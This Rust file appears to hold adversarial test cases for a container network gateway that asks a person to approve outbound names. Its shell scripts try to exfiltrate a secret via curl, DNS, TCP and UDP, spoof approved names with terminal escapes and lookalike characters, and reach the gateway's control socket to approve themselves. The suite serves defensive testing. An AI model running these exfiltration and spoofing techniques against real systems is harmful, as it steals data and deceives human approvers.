//! Somebody approves what a container asks for: with that it is to get what was shown, and no more.

use crate::row::{APPROVED, Control, Counts, Meanwhile, ROW, Row, Trace};

pub(crate) const ROWS: &[Row] = &[
    Row {
        name: "an_approval_stretched_to_more_than_it_is_for",
        attack: "a name is asked for until somebody approves it; then the secret is sent to the attacker's address in that name, \
                 to names below it, to other ports and by other protocols",
        defence: "an approval is a rule for exactly the name and port that were shown; where the name leads, the proxy finds out itself",
        script: |scene| {
            let (address, secret, waits) =
                (scene.target_in_urls(), &scene.secret, until_approved());
            format!(
                "{waits}
                 for port in 80 8080 22; do
                   curl -g -s -m 3 --resolve {APPROVED}:$port:{address} http://{APPROVED}:$port/{secret}
                   curl -g -s -m 3 --resolve {secret}.{APPROVED}:$port:{address} http://{secret}.{APPROVED}:$port/{secret}
                 done
                 curl -g -ks -m 3 --resolve {APPROVED}:443:{address} https://{APPROVED}/{secret}
                 attacker dns udp {address}:53 {secret}.{APPROVED}
                 attacker send tcp {address}:80 {secret}
                 attacker send udp {address}:443 {secret}",
                            )
        },
        meanwhile: Meanwhile::SomebodyApproves,
        counts: Counts::AtTheAttackers,
        recorded: Some(Trace::Secret),
        ..ROW
    },
    Row {
        name: "an_attempt_that_looks_like_a_harmless_one",
        attack: "names of the attacker's with terminal escapes, line ends, letters that look alike, words of rules and marks of \
                 direction, and 500 names that push out what was seen, while somebody approves whatever reads as the harmless name",
        defence: "only names of plain ASCII are shown, escaped, and an ID is a hash of all that its rule says",
        script: |scene| {
            let (address, secret, waits) =
                (scene.target_in_urls(), &scene.secret, until_approved());
            let names = [
                r"evil.test\033[2K\033[1A",
                r"\r",
                r"evil.test\n",
                r"\342\200\256",
                r"evil.test port=80 domain=",
                r"evil.test,",
                r"evil.test\t",
                r"\303\240",
                r"xn--",
                r"evil.test@",
            ];
            let names = names.map(|name| format!("'{name}'")).join(" ");
            format!(
                "say() {{ for name in {names}; do
                   host=$(printf \"$name\"){APPROVED}
                   curl -g -s -m 3 -H \"Host: $host\" http://{address}/{secret}
                   curl -g -s -m 3 -X \"$host\" http://{address}/$host/{secret}
                 done; }}
                 say
                 for number in $(seq 500); do attacker dns udp {address}:53 n$number.evil.test; done > /dev/null
                 {waits}
                 say
                 attacker send tcp {address}:80 {secret}",
                            )
        },
        meanwhile: Meanwhile::SomebodyApproves,
        counts: Counts::AtTheAttackers,
        seconds: 180,
        ..ROW
    },
    Row {
        name: "an_approval_of_the_containers_own",
        attack: "a name is asked for, and then every Unix socket that the container can find, and where the host has the gateway's, \
                 is told in the control protocol's words to approve what is pending; then the secret is sent to that name",
        defence: "the control socket is in a directory of the host's that no container has, for root's callers alone",
        script: |scene| {
            let (address, secret) = (scene.target_in_urls(), &scene.secret);
            format!(
                "curl -s -m 5 -o /dev/null http://{APPROVED}/
                 touch /tmp/ready; until [ -e /tmp/done ]; do sleep 0.1; done
                 attacker approve $(find / -path /proc -prune -o -type s -print 2> /dev/null) \\
                   /run/boundary/*/control /proc/*/root/run/boundary/*/control
                 curl -g -s -m 5 --resolve {APPROVED}:80:{address} http://{APPROVED}/{secret}"
            )
        },
        meanwhile: Meanwhile::TheHost(":"),
        control: Control::Filtered("", HANDED_IN),
        recorded: Some(Trace::Secret),
        ..ROW
    },
];

/// Root on the host gives the container the socket of its own gateway, in root's own name.
const HANDED_IN: Meanwhile = Meanwhile::TheHost(
    "id=$(boundary-shim policy pending --json $1 | grep -o -m 1 '\"container\":\"[0-9a-f]*' | cut -d '\"' -f 4)
     state=$(echo /run/boundary/${id:?nothing is pending}-*)
     root=/proc/$(grep -o '\"init\":{\"pid\":[0-9]*' $state/record.json | grep -o '[0-9]*$')/root
     timeout 60 attacker hand-in $state/control $root/tmp/gateway < /dev/null > /dev/null 2>&1 &
     timeout 20 sh -c \"until [ -S $root/tmp/gateway ]; do sleep 0.1; done\"",
);

/// Waits until the name is approved.
fn until_approved() -> String {
    format!(
        "for attempt in $(seq 60); do curl -s -m 2 -o /dev/null http://{APPROVED}/ && break; sleep 0.3; done"
    )
}
